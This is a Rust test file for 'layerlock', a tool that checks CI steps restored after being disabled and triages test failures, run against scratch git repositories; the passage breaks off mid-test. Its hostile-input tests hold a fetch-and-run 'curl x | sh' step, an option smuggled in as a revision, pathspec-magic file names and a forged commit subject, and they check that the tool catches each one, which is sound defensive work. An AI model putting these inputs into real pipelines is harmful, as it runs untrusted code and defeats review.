//! `blocks` and `triage` on real git repositories built here, with dated
//! commits: steps disabled and restored, modules changed while a job was
//! dark, a stale xfail.

mod common;

use std::path::Path;
use std::process::Command as Process;

use common::{Work, run};

/// A git repository in a scratch directory, isolated from the user's and
/// the system's git config.
struct Repo {
    work: Work,
}

impl Repo {
    fn new() -> Self {
        let repo = Self { work: Work::new() };
        repo.git(&["init", "-q", "-b", "main", "."]);
        repo
    }

    fn path(&self) -> &Path {
        self.work.path()
    }

    fn git(&self, args: &[&str]) -> String {
        self.git_at(args, "2026-08-01T00:00:00Z")
    }

    fn git_at(&self, args: &[&str], date: &str) -> String {
        let out = Process::new("git")
            .current_dir(self.path())
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_AUTHOR_DATE", date)
            .env("GIT_COMMITTER_DATE", date)
            .args(["-c", "user.name=Dev", "-c", "user.email=dev@example.com"])
            .args(args)
            .output()
            .expect("git runs");
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    }

    fn write(&self, name: &str, text: &str) {
        self.work.write(name, text);
    }

    /// Commit everything at `date` (UTC day) with `subject`; the commit id.
    fn commit(&self, date: &str, subject: &str) -> String {
        let when = format!("{date}T12:00:00Z");
        self.git_at(&["add", "-A"], &when);
        self.git_at(&["commit", "-q", "--allow-empty", "-m", subject], &when);
        self.git(&["rev-parse", "HEAD"])
    }

    fn layerlock(&self, args: &[&str]) -> (i32, String, String) {
        let mut cmd = self.work.layerlock(args);
        cmd.env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1");
        run(cmd)
    }
}

const KV_BEFORE: &str = "\
group: KV
steps:
- label: NIXL tests
  key: nixl-tests
  timeout_in_minutes: 30
  source_file_dependencies:
  - vllm/kv/
  - tests/kv/
  commands:
  - bash /w/.buildkite/scripts/install-kv-connectors.sh
  - uv pip install --system -r /w/requirements/kv_connectors.txt
  - pytest -v tests/kv/test_nixl.py
- label: Mooncake tests
  key: mooncake-tests
  timeout_in_minutes: 20
  commands:
  - bash /w/.buildkite/scripts/install-kv-connectors.sh
  - pytest -v tests/kv/test_mooncake.py
- label: Unit
  key: unit
  commands:
  - pytest tests/unit
";

/// NIXL removed outright, Mooncake commented out.
const KV_DISABLED: &str = "\
group: KV
steps:
# - label: Mooncake tests
#   key: mooncake-tests
#   timeout_in_minutes: 20
#   commands:
#   - bash /w/.buildkite/scripts/install-kv-connectors.sh
#   - pytest -v tests/kv/test_mooncake.py
- label: Unit
  key: unit
  commands:
  - pytest tests/unit
";

/// Restored: NIXL with only the declared edits, Mooncake with two more.
const KV_RESTORED: &str = "\
group: KV
steps:
- label: NIXL tests
  key: nixl-tests
  timeout_in_minutes: 30
  source_file_dependencies:
  - vllm/kv/
  - tests/kv/
  commands:
  - bash /w/.buildkite/scripts/check-kv-connectors.sh
  - pytest -v tests/kv/test_nixl.py
- label: Mooncake tests
  key: mooncake-tests
  timeout_in_minutes: 25
  commands:
  - bash /w/.buildkite/scripts/check-kv-connectors.sh
  - pytest -v tests/kv/test_mooncake.py -x
- label: Unit
  key: unit
  commands:
  - pytest -q tests/unit
";

const EDITS: [&str; 4] = [
    "--rewrite",
    "install-kv-connectors.sh=check-kv-connectors.sh",
    "--drop-line",
    "^uv pip install ",
];

/// Steps added, disabled by one commit, other work on main, then restored
/// on a branch. Returns the disabling commit.
fn disabled_and_restored() -> (Repo, String) {
    let repo = Repo::new();
    repo.write(".buildkite/test_areas/kv.yaml", KV_BEFORE);
    repo.commit("2026-08-01", "Add the KV jobs (#100)");
    repo.write(".buildkite/test_areas/kv.yaml", KV_DISABLED);
    let disabling = repo.commit(
        "2026-09-01",
        "Disable jobs with unpinned runtime installs (#63609)",
    );
    repo.write(
        ".buildkite/test_areas/kv.yaml",
        &KV_DISABLED.replace("pytest tests/unit", "pytest -q tests/unit"),
    );
    repo.commit("2026-09-05", "Quieter unit tests (#200)");
    repo.git(&["checkout", "-q", "-b", "restore"]);
    repo.write(".buildkite/test_areas/kv.yaml", KV_RESTORED);
    (repo, disabling)
}

fn json(text: &str) -> serde_json::Value {
    serde_json::from_str(text).unwrap_or_else(|e| panic!("not JSON ({e}): {text}"))
}

fn status_of<'a>(report: &'a serde_json::Value, id: &str) -> &'a str {
    report["steps"]
        .as_array()
        .expect("steps")
        .iter()
        .find(|s| s["id"].as_object().and_then(|o| o.values().next()) == Some(&id.into()))
        .and_then(|s| s["status"].as_str())
        .unwrap_or_else(|| panic!("no step {id} in {report}"))
}

#[test]
fn restored_steps_match_their_definition_before_the_disabling_commit() {
    let (repo, disabling) = disabled_and_restored();
    // Found automatically: each step new since main, before the commit
    // that removed it (one removed outright, one commented out).
    let mut args = vec!["blocks", "--disabled-by", "auto", "--format", "json"];
    args.extend(EDITS);
    let (code, out, err) = repo.layerlock(&args);
    assert_eq!(code, 1, "{out}{err}");
    let report = json(&out);
    assert_eq!(status_of(&report, "nixl-tests"), "edited");
    assert_eq!(status_of(&report, "mooncake-tests"), "changed");
    let steps = report["steps"].as_array().expect("steps");
    assert_eq!(steps.len(), 2, "unit was never disabled: {out}");
    for step in steps {
        assert_eq!(step["disabled_by"]["id"], disabling.as_str());
    }
    let mooncake = steps
        .iter()
        .find(|s| s["id"]["key"] == "mooncake-tests")
        .expect("mooncake");
    let diff = mooncake["commands_diff"].as_str().expect("a command diff");
    assert!(
        diff.contains("-pytest -v tests/kv/test_mooncake.py\n"),
        "{diff}"
    );
    assert!(
        diff.contains("+pytest -v tests/kv/test_mooncake.py -x\n"),
        "{diff}"
    );
    assert_eq!(mooncake["fields"][0]["path"], "timeout_in_minutes");
    assert_eq!(mooncake["fields"][0]["old"], "20");
    assert_eq!(mooncake["fields"][0]["new"], "25");

    // The same with the commit named, one step at a time: NIXL passes.
    let mut args = vec![
        "blocks",
        "--disabled-by",
        &disabling,
        "--step",
        "nixl-tests",
    ];
    args.extend(EDITS);
    let (code, out, err) = repo.layerlock(&args);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("edited as declared: key nixl-tests"), "{out}");
    assert!(
        out.contains(
            "dropped old line: uv pip install --system -r /w/requirements/kv_connectors.txt"
        ),
        "{out}"
    );

    // Without the declared edits both differ.
    let (code, out, _) = repo.layerlock(&["blocks", "--disabled-by", &disabling]);
    assert_eq!(code, 1);
    assert!(out.contains("2 steps compared: 2 changed"), "{out}");
}

#[test]
fn the_markdown_report_is_a_pull_request_comment() {
    let (repo, disabling) = disabled_and_restored();
    let mut args = vec![
        "blocks",
        "--disabled-by",
        &disabling,
        "--format",
        "markdown",
    ];
    args.extend(EDITS);
    let (code, out, err) = repo.layerlock(&args);
    assert_eq!(code, 1, "{err}");
    assert!(out.starts_with("### layerlock blocks\n"), "{out}");
    assert!(out.contains("| `mooncake-tests` | ❌ changed |"), "{out}");
    assert!(
        out.contains("| `nixl-tests` | ✅ edited as declared |"),
        "{out}"
    );
    assert!(out.contains("(#63609)"), "{out}");
    assert!(out.contains("````diff\n--- before\n+++ now\n"), "{out}");
}

#[test]
fn expected_edits_come_from_the_config_too() {
    let (repo, disabling) = disabled_and_restored();
    repo.write(
        "layerlock.toml",
        "[blocks]\nrewrite = [\"install-kv-connectors.sh=check-kv-connectors.sh\"]\ndrop-line = ['^uv pip install ']\n",
    );
    let (code, out, err) = repo.layerlock(&[
        "blocks",
        "--disabled-by",
        &disabling,
        "--step",
        "nixl-tests",
    ]);
    assert_eq!(code, 0, "{out}{err}");
}

#[test]
fn since_compares_every_job_of_every_ci_system() {
    let repo = Repo::new();
    repo.write(
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: pytest\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n    - run: ruff check\n",
    );
    repo.write(
        ".gitlab-ci.yml",
        "stages: [test]\nunit:\n  stage: test\n  script:\n  - make test\n",
    );
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- label: Build\n  key: build\n  command: make\n",
    );
    let base = repo.commit("2026-08-01", "CI");
    repo.write(
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps:\n    - uses: actions/checkout@v4\n    - run: pytest -x\n  docs:\n    runs-on: ubuntu-latest\n    steps:\n    - run: mkdocs build\n",
    );
    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("changed: job test"), "{out}");
    assert!(
        out.contains("runs-on: \"ubuntu-latest\" → \"ubuntu-24.04\""),
        "{out}"
    );
    assert!(out.contains("added: job docs"), "{out}");
    assert!(out.contains("removed: job lint"), "{out}");
    assert!(
        out.contains("5 steps compared: 1 changed, 2 unchanged, 1 added, 1 removed"),
        "{out}"
    );
    // Unchanged jobs are counted, not listed, when comparing everything.
    assert!(!out.contains("unchanged: job unit"), "{out}");
    // Limited to one file.
    let (code, out, _) = repo.layerlock(&["blocks", "--since", &base, ".gitlab-ci.yml"]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("1 step compared: 1 unchanged"), "{out}");
}

#[test]
fn unreadable_history_and_bad_revisions_fail_closed() {
    let repo = Repo::new();
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: a\n  command: [unclosed\n",
    );
    let base = repo.commit("2026-08-01", "broken pipeline");
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: a\n  command: make\n",
    );
    let (code, _, err) = repo.layerlock(&["blocks", "--since", &base]);
    assert_eq!(
        code, 2,
        "a pipeline that cannot be read is not a pass: {err}"
    );
    assert!(err.contains(".buildkite/pipeline.yml at "), "{err}");
    assert!(err.contains("not valid YAML"), "{err}");

    // A revision that is not one, even when it looks like an option.
    let (code, _, err) = repo.layerlock(&["blocks", "--since=--output=owned.txt"]);
    assert_eq!(code, 2);
    assert!(err.contains("is not a commit in this repository"), "{err}");
    assert!(!repo.path().join("owned.txt").exists());

    // A directory outside the repository is refused.
    let (code, _, err) = repo.layerlock(&["blocks", "--since", &base, "/"]);
    assert_eq!(code, 2);
    assert!(err.contains("outside the repository"), "{err}");

    // Not a repository at all.
    let work = Work::new();
    let (code, _, err) = run(work.layerlock(&["blocks", "--since", "HEAD"]));
    assert_eq!(code, 2);
    assert!(err.contains("not inside a git work tree"), "{err}");
}

const KV_STEP: &str = "\
steps:
- label: KV tests
  key: kv-tests
  commands:
  - pytest -v tests/kv
- label: Unit
  key: unit
  commands:
  - pytest tests/unit
";

const TEST_NIXL: &str = "\
import pytest
from vllm.kv import nixl


def test_handshake():
    assert nixl.handshake()


@pytest.mark.parametrize(
    \"mode\",
    [
        pytest.param(\"a\", id=\"plain\"),
        pytest.param(\"b\", id=\"meta\", marks=pytest.mark.xfail(strict=True, reason=\"metadata race\")),
    ],
)
def test_metadata(mode):
    assert nixl.metadata(mode)
";

/// A job disabled on 2026-09-01; while it was dark, a fix made an xfail
/// stale and two changes reached the modules a test imports; the branch
/// restores the job and changes another module.
fn dark_job() -> (Repo, String) {
    let repo = Repo::new();
    repo.write(".buildkite/pipeline.yml", KV_STEP);
    repo.write("vllm/__init__.py", "");
    repo.write("vllm/kv/__init__.py", "");
    repo.write(
        "vllm/kv/nixl.py",
        "from . import base\n\n\ndef handshake():\n    return base.ok()\n\n\ndef metadata(mode):\n    return mode == 'a'\n",
    );
    repo.write("vllm/kv/base.py", "def ok():\n    return True\n");
    repo.write("vllm/kv/mooncake.py", "def store():\n    return True\n");
    repo.write("vllm/other.py", "X = 1\n");
    repo.write("tests/kv/test_nixl.py", TEST_NIXL);
    repo.write(
        "tests/kv/test_mooncake.py",
        "from vllm.kv.mooncake import store\n\n\ndef test_store():\n    assert store()\n\n\ndef test_setup():\n    pass\n",
    );
    repo.write("tests/kv/test_quiet.py", "def test_ok():\n    pass\n");
    repo.commit("2026-08-01", "Add the KV connectors (#100)");
    repo.write(
        ".buildkite/pipeline.yml",
        &KV_STEP[KV_STEP.find("- label: Unit").expect("unit")..]
            .replace("- label", "steps:\n- label"),
    );
    let disabling = repo.commit(
        "2026-09-01",
        "Disable jobs with unpinned runtime installs (#63609)",
    );
    repo.write(
        "vllm/kv/nixl.py",
        "from . import base\n\n\ndef handshake():\n    return base.ok()\n\n\ndef metadata(mode):\n    return True\n",
    );
    repo.commit("2026-09-03", "Fix the NIXL metadata race (#64001)");
    repo.write("vllm/kv/base.py", "def ok():\n    return False\n");
    repo.commit("2026-09-10", "Rework the KV handshake (#64100)");
    repo.write("vllm/other.py", "X = 2\n");
    repo.commit("2026-09-12", "Unrelated (#64200)");
    repo.git(&["checkout", "-q", "-b", "restore"]);
    repo.write(".buildkite/pipeline.yml", KV_STEP);
    repo.commit("2026-10-01", "Restore the KV jobs (#65000)");
    repo.write("vllm/kv/mooncake.py", "def store():\n    return None\n");
    repo.commit("2026-10-02", "Mooncake: return the handle");
    // Two shards of the restored job, as pytest --junitxml writes them.
    repo.write(
        "reports/shard-1.xml",
        r#"<?xml version="1.0" encoding="utf-8"?><testsuites name="pytest tests"><testsuite name="pytest" errors="0" failures="2" skipped="1" tests="4" time="0.5">
<testcase classname="tests.kv.test_nixl" name="test_handshake" time="0.001"><failure message="assert False&#10; +  where False = handshake()">def test_handshake():
&gt;       assert nixl.handshake()
E       assert False</failure></testcase>
<testcase classname="tests.kv.test_nixl" name="test_metadata[plain]" time="0.001" />
<testcase classname="tests.kv.test_nixl" name="test_metadata[meta]" time="0.001"><failure message="[XPASS(strict)] metadata race">[XPASS(strict)] metadata race</failure></testcase>
<testcase classname="tests.kv.test_quiet" name="test_ok" time="0.001"><skipped type="pytest.skip" message="no GPU">tests/kv/test_quiet.py:1: no GPU</skipped></testcase>
</testsuite></testsuites>"#,
    );
    repo.write(
        "reports/shard-2.xml",
        r#"<?xml version="1.0" encoding="utf-8"?><testsuites name="pytest tests"><testsuite name="pytest" errors="1" failures="1" skipped="0" tests="3" time="0.5">
<testcase classname="tests.kv.test_mooncake" name="test_store" time="0.001"><failure message="assert None">assert None</failure></testcase>
<testcase classname="tests.kv.test_mooncake" name="test_setup" time="0.001"><error message="failed on setup with &quot;OSError: no RDMA device&quot;">OSError</error></testcase>
<testcase classname="tests.kv.test_quiet" name="test_ok" time="0.001"><failure message="TimeoutError">TimeoutError</failure></testcase>
</testsuite></testsuites>"#,
    );
    (repo, disabling)
}

fn failure<'a>(report: &'a serde_json::Value, node: &str) -> &'a serde_json::Value {
    report["failures"]
        .as_array()
        .expect("failures")
        .iter()
        .find(|f| f["node_id"] == node)
        .unwrap_or_else(|| panic!("no failure {node} in {report:#}"))
}

fn subjects(commits: &serde_json::Value) -> Vec<&str> {
    commits
        .as_array()
        .expect("commits")
        .iter()
        .map(|c| c["subject"].as_str().expect("subject"))
        .collect()
}

#[test]
fn failures_are_told_latent_this_change_stale_xfail_or_unexplained() {
    let (repo, disabling) = dark_job();
    let (code, out, err) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/shard-1.xml",
        "kv-tests=reports/shard-2.xml",
        "--dark-since",
        "auto",
        "--format",
        "json",
    ]);
    assert_eq!(code, 1, "{out}{err}");
    let report = json(&out);
    assert_eq!(
        report["windows"][0]["disabled_by"]["id"],
        disabling.as_str()
    );

    // Broken while dark: the module it imports changed, and what that
    // imports (two levels down); the nearer change comes first.
    let handshake = failure(&report, "tests/kv/test_nixl.py::test_handshake");
    assert_eq!(handshake["cause"], "latent");
    assert_eq!(
        subjects(&handshake["latent"]),
        [
            "Fix the NIXL metadata race (#64001)",
            "Rework the KV handshake (#64100)"
        ]
    );
    assert_eq!(handshake["latent"][0]["distance"], 1);
    assert_eq!(handshake["latent"][1]["pr"], 64100);
    assert_eq!(handshake["latent"][1]["date"], "2026-09-10");
    assert_eq!(handshake["latent"][1]["touched"][0], "vllm/kv/base.py");
    assert_eq!(handshake["latent"][1]["distance"], 2);
    assert!(
        handshake["note"]
            .as_str()
            .expect("note")
            .contains("1 on modules it imports or its conftest.py, 1 further down its imports"),
        "{handshake}"
    );
    assert_eq!(handshake["message"], "assert False");

    // The branch's own change.
    let store = failure(&report, "tests/kv/test_mooncake.py::test_store");
    assert_eq!(store["cause"], "this-change");
    assert_eq!(
        subjects(&store["this_change"]),
        ["Mooncake: return the handle"]
    );

    // The xfail marker on the parametrized case, made stale by the fix.
    let meta = failure(&report, "tests/kv/test_nixl.py::test_metadata[meta]");
    assert_eq!(meta["cause"], "stale-xfail");
    assert_eq!(meta["xfail"]["path"], "tests/kv/test_nixl.py");
    assert_eq!(meta["xfail"]["line"], 13);
    assert_eq!(meta["xfail"]["strict"], true);
    assert!(
        meta["note"]
            .as_str()
            .expect("note")
            .contains("likely fixed by"),
        "{meta}"
    );
    assert!(
        meta["note"]
            .as_str()
            .expect("note")
            .contains("Fix the NIXL metadata race (#64001)")
    );

    // Nothing touched these: the environment (setup error) and a test that
    // failed in one shard and was skipped in another.
    let setup = failure(&report, "tests/kv/test_mooncake.py::test_setup");
    assert_eq!(
        setup["cause"], "this-change",
        "the module it imports changed on the branch"
    );
    let quiet = failure(&report, "tests/kv/test_quiet.py::test_ok");
    assert_eq!(quiet["cause"], "unexplained");
    assert!(
        quiet["note"]
            .as_str()
            .expect("note")
            .contains("flaky or the environment")
    );
    assert_eq!(
        quiet["seen_in"],
        serde_json::json!(["reports/shard-1.xml:7", "reports/shard-2.xml:4"])
    );
    assert_eq!(report["totals"]["failed"], 3);
    assert_eq!(report["totals"]["xpass-strict"], 1);
    assert_eq!(report["totals"]["error"], 1);
}

#[test]
fn the_dark_window_may_be_a_revision_or_a_date() {
    let (repo, disabling) = dark_job();
    let latent_of = |since: &str| {
        let (code, out, err) = repo.layerlock(&[
            "triage",
            "reports/shard-1.xml",
            "--job",
            "kv-tests",
            "--dark-since",
            since,
            "--format",
            "json",
        ]);
        assert_eq!(code, 1, "{out}{err}");
        let report = json(&out);
        subjects(&failure(&report, "tests/kv/test_nixl.py::test_handshake")["latent"])
            .into_iter()
            .map(str::to_string)
            .collect::<Vec<_>>()
    };
    let by_rev = latent_of(&disabling);
    assert_eq!(by_rev.len(), 2);
    assert_eq!(latent_of("2026-09-02"), by_rev);
    // After the fix only the rework counts.
    assert_eq!(
        latent_of("2026-09-05"),
        ["Rework the KV handshake (#64100)"]
    );
}

#[test]
fn the_markdown_report_groups_by_job_and_shard() {
    let (repo, _) = dark_job();
    let (code, out, err) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/shard-1.xml",
        "kv-tests=reports/shard-2.xml",
        "--dark-since",
        "auto",
        "--format",
        "markdown",
    ]);
    assert_eq!(code, 1, "{err}");
    assert!(out.starts_with("### layerlock triage\n"), "{out}");
    assert!(out.contains("#### `kv-tests`: dark since "), "{out}");
    // By shard, as a reviewer's comment: each failure with its cause.
    assert!(out.contains("Shard `reports/shard-1.xml`:"), "{out}");
    assert!(
        out.contains("- `tests/kv/test_nixl.py::test_handshake` — **latent**: "),
        "{out}"
    );
    assert!(out.contains("— **stale xfail**: "), "{out}");
    assert!(
        out.contains("  - while dark: `") && out.contains("Fix the NIXL metadata race (#64001)"),
        "{out}"
    );
    // Text: the same groups.
    let (_, text, _) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/shard-1.xml",
        "--dark-since",
        "auto",
    ]);
    assert!(text.contains("job kv-tests: dark since "), "{text}");
    assert!(
        text.contains("  latent (1)\n    tests/kv/test_nixl.py::test_handshake\n"),
        "{text}"
    );
}

#[test]
fn buildkite_test_engine_exports_are_read_too() {
    let (repo, _) = dark_job();
    repo.write(
        "reports/bk.json",
        r#"[{"id":"1","scope":"tests/kv/test_nixl.py","name":"test_handshake","location":"./tests/kv/test_nixl.py:5","file_name":"./tests/kv/test_nixl.py","result":"failed","failure_reason":"assert False"}]"#,
    );
    let (code, out, err) = repo.layerlock(&[
        "triage",
        "kv-tests=reports/bk.json",
        "--dark-since",
        "auto",
        "--format",
        "json",
    ]);
    assert_eq!(code, 1, "{out}{err}");
    let report = json(&out);
    assert_eq!(
        failure(&report, "tests/kv/test_nixl.py::test_handshake")["cause"],
        "latent"
    );
}

#[test]
fn triage_fails_closed_on_what_it_cannot_read() {
    let (repo, _) = dark_job();
    // A report cut short.
    repo.write(
        "reports/cut.xml",
        "<testsuites><testsuite><testcase name=\"x\"",
    );
    let (code, _, err) =
        repo.layerlock(&["triage", "reports/cut.xml", "--dark-since", "2026-09-01"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("reports/cut.xml:1:"), "{err}");
    // A report that is not there.
    let (code, _, err) =
        repo.layerlock(&["triage", "reports/none.xml", "--dark-since", "2026-09-01"]);
    assert_eq!(code, 2);
    assert!(err.contains("reports/none.xml"), "{err}");
    // A date git would read as anything.
    let (code, _, err) = repo.layerlock(&[
        "triage",
        "reports/shard-1.xml",
        "--dark-since",
        "last tuesday-ish",
    ]);
    assert_eq!(code, 2);
    assert!(
        err.contains("neither a revision of this repository nor a date"),
        "{err}"
    );
    // No window given at all.
    let (code, _, err) = repo.layerlock(&["triage", "reports/shard-1.xml"]);
    assert_eq!(code, 2);
    assert!(err.contains("--dark-since"), "{err}");
    // `auto` for a job whose step was never removed.
    let (code, _, err) =
        repo.layerlock(&["triage", "unit=reports/shard-1.xml", "--dark-since", "auto"]);
    assert_eq!(code, 2);
    assert!(err.contains("cannot tell when job unit went dark"), "{err}");
    // All green: nothing to triage, exit 0.
    repo.write(
        "reports/green.xml",
        "<testsuites><testsuite><testcase classname=\"tests.kv.test_quiet\" name=\"test_ok\"/></testsuite></testsuites>",
    );
    let (code, out, err) =
        repo.layerlock(&["triage", "reports/green.xml", "--dark-since", "2026-09-01"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("no failing test to triage"), "{out}");
}

// Hostile repositories and inputs: what a pull request's author controls
// (commit subjects, file names, CI files, test names and messages) must not
// hide a change, hang the check or break out of the report.

/// A failing test importing `helper.py`, its job disabled on 2026-09-01,
/// restored on a branch. Returns the disabling commit.
fn small_dark_job(subject_while_dark: &str) -> (Repo, String) {
    let repo = Repo::new();
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: kv\n  command: pytest tests\n",
    );
    repo.write("helper.py", "X = 1\n");
    repo.write(
        "tests/test_a.py",
        "import helper\n\n\ndef test_a():\n    assert helper.X == 1\n",
    );
    repo.commit("2026-08-01", "Add the job");
    repo.write(".buildkite/pipeline.yml", "steps: []\n");
    let disabling = repo.commit("2026-09-01", "Disable the job");
    repo.write("helper.py", "X = 2\n");
    repo.commit("2026-09-02", subject_while_dark);
    repo.git(&["checkout", "-q", "-b", "restore"]);
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: kv\n  command: pytest tests\n",
    );
    repo.commit("2026-10-01", "Restore the job");
    repo.write(
        "reports/r.xml",
        "<testsuites><testsuite><testcase classname=\"tests.test_a\" name=\"test_a\"><failure message=\"assert 2 == 1\"/></testcase></testsuite></testsuites>",
    );
    (repo, disabling)
}

#[test]
fn a_commit_subject_cannot_hide_or_forge_commits() {
    // Git keeps a record separator in a subject; the log must still be read
    // commit by commit.
    let forged = "Tweak\u{1e}0000000000000000000000000000000000000000 the helper";
    let (repo, _) = small_dark_job(forged);
    let (code, out, err) = repo.layerlock(&[
        "triage",
        "kv=reports/r.xml",
        "--dark-since",
        "auto",
        "--format",
        "json",
    ]);
    assert_eq!(code, 1, "{out}{err}");
    let report = json(&out);
    let failure = failure(&report, "tests/test_a.py::test_a");
    assert_eq!(failure["cause"], "latent", "{failure:#}");
    assert_eq!(subjects(&failure["latent"]), [forged]);

    // The same subject on the commit that disabled a step.
    let repo = Repo::new();
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: a\n  command: make\n",
    );
    repo.commit("2026-08-01", "Add");
    repo.write(".buildkite/pipeline.yml", "steps: []\n");
    repo.commit("2026-09-01", forged);
    repo.git(&["checkout", "-q", "-b", "restore"]);
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: a\n  command: make -j9\n",
    );
    let (code, out, err) = repo.layerlock(&["blocks", "--disabled-by", "auto", "--format", "json"]);
    assert_eq!(code, 1, "the restored step differs: {out}{err}");
    assert_eq!(status_of(&json(&out), "a"), "changed");
}
#[test]
fn file_names_are_never_pathspec_magic() {
    let repo = Repo::new();
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: a\n  command: make\n",
    );
    let base = repo.commit("2026-08-01", "Add");
    repo.write(
        ".buildkite/pipeline.yml",
        "steps:\n- key: a\n  command: curl x | sh\n",
    );
    // A nested CI folder whose name, read as pathspec magic, would exclude
    // every `.buildkite` folder.
    repo.write(":(exclude,glob)**/.buildkite/pipeline.yml", "steps: []\n");
    repo.write(":!.buildkite/.buildkite/pipeline.yml", "steps: []\n");
    repo.commit("2026-08-02", "Nested pipelines");
    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base, "--format", "json"]);
    assert_eq!(code, 1, "{out}{err}");
    assert_eq!(status_of(&json(&out), "a"), "changed");
    // And a path given on the command line is a path.
    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base, ".buildkite/pipeline.yml"]);
    assert_eq!(code, 1, "{out}{err}");
}
impl Repo {
    /// `layerlock ARGS`, stopped after `secs` seconds: a hang is a failure
    /// of its own, not a test that never ends.
    fn layerlock_within(&self, secs: u64, args: &[&str]) -> (i32, String, String) {
        let mut cmd = self.work.layerlock(args);
        cmd.env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let mut child = cmd.spawn().expect("run layerlock");
        // Read while it runs: a report larger than a pipe holds would
        // otherwise stop it on its write.
        let drain = |pipe: Option<Box<dyn std::io::Read + Send>>| {
            std::thread::spawn(move || {
                let mut bytes = Vec::new();
                if let Some(mut pipe) = pipe {
                    let _ = pipe.read_to_end(&mut bytes);
                }
                String::from_utf8_lossy(&bytes).into_owned()
            })
        };
        let out = drain(child.stdout.take().map(|p| Box::new(p) as _));
        let err = drain(child.stderr.take().map(|p| Box::new(p) as _));
        let started = std::time::Instant::now();
        let status = loop {
            if let Some(status) = child.try_wait().expect("wait") {
                break status;
            }
            if started.elapsed() > std::time::Duration::from_secs(secs) {
                let _ = child.kill();
                let _ = child.wait();
                panic!("layerlock {args:?} ran longer than {secs} s");
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        };
        (
            status.code().unwrap_or(-1),
            out.join().expect("stdout"),
            err.join().expect("stderr"),
        )
    }
}

#[test]
fn jobs_of_the_same_name_are_matched_by_file_and_never_hang() {
    // A job id written three times in one workflow: GitHub refuses such a
    // file, and so does the YAML reader, naming the key, without hanging.
    let repo = Repo::new();
    let thrice = "on: push\njobs:\n  build:\n    runs-on: a\n  build:\n    runs-on: b\n  build:\n    runs-on: c\n";
    repo.write(".github/workflows/ci.yml", thrice);
    let base = repo.commit("2026-08-01", "Add");
    let (code, out, err) = repo.layerlock_within(20, &["blocks", "--since", &base]);
    assert_eq!(code, 2, "{out}{err}");
    assert!(
        err.contains("the key `build` is given twice in one mapping (first on line 3)"),
        "{err}"
    );

    // `test` in two workflows: the one in a.yml (sorted first) is disabled,
    // then restored with a change; ci.yml's never moved.
    let repo = Repo::new();
    let job = |run: &str| {
        format!("on: push\njobs:\n  test:\n    runs-on: x\n    steps:\n    - run: {run}\n")
    };
    repo.write(".github/workflows/a.yml", &job("pytest a"));
    repo.write(".github/workflows/ci.yml", &job("pytest ci"));
    repo.commit("2026-08-01", "Add");
    repo.write(".github/workflows/a.yml", "on: push\njobs: {}\n");
    let disabling = repo.commit("2026-09-01", "Disable a");
    repo.git(&["checkout", "-q", "-b", "restore"]);
    repo.write(".github/workflows/a.yml", &job("curl x | sh"));
    for baseline in [
        ["--disabled-by", disabling.as_str()],
        ["--disabled-by", "auto"],
    ] {
        let mut args = vec!["blocks"];
        args.extend(baseline);
        let (code, out, err) = repo.layerlock_within(20, &args);
        assert_eq!(code, 1, "{baseline:?}: {out}{err}");
        assert!(
            out.contains("changed: job test (.github/workflows/a.yml)"),
            "{out}"
        );
        assert!(out.contains("+curl x | sh"), "{out}");
        assert!(
            !out.contains("ci.yml"),
            "ci.yml's job was never disabled: {out}"
        );
    }
    // Every occurrence of a job compared with the one in its own file.
    let (code, out, _) = repo.layerlock_within(20, &["blocks", "--since", "main"]);
    assert_eq!(code, 0, "a job added back is no difference: {out}");
    assert!(
        out.contains("added: job test (.github/workflows/a.yml)"),
        "{out}"
    );
    let (code, out, _) =
        repo.layerlock_within(20, &["blocks", "--since", "main~1", "--step", "test"]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("changed: job test (.github/workflows/a.yml)"),
        "{out}"
    );
    assert!(
        out.contains("2 steps compared: 1 changed, 1 unchanged"),
        "{out}"
    );
}

#[cfg(unix)]
#[test]
fn symlinked_ci_files_are_followed_inside_the_repository_only() {
    use std::os::unix::fs::symlink;
    let repo = Repo::new();
    repo.write("ci/pipeline.yml", "steps:\n- key: a\n  command: make\n");
    std::fs::create_dir_all(repo.path().join(".buildkite")).expect("mkdir");
    symlink(
        "../ci/pipeline.yml",
        repo.path().join(".buildkite/pipeline.yml"),
    )
    .expect("symlink");
    let base = repo.commit("2026-08-01", "Add");
    repo.write(
        "ci/pipeline.yml",
        "steps:\n- key: a\n  command: curl x | sh\n",
    );
    // The file at the revision is the link's target, as in the work tree.
    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base, "--format", "json"]);
    assert_eq!(code, 1, "{out}{err}");
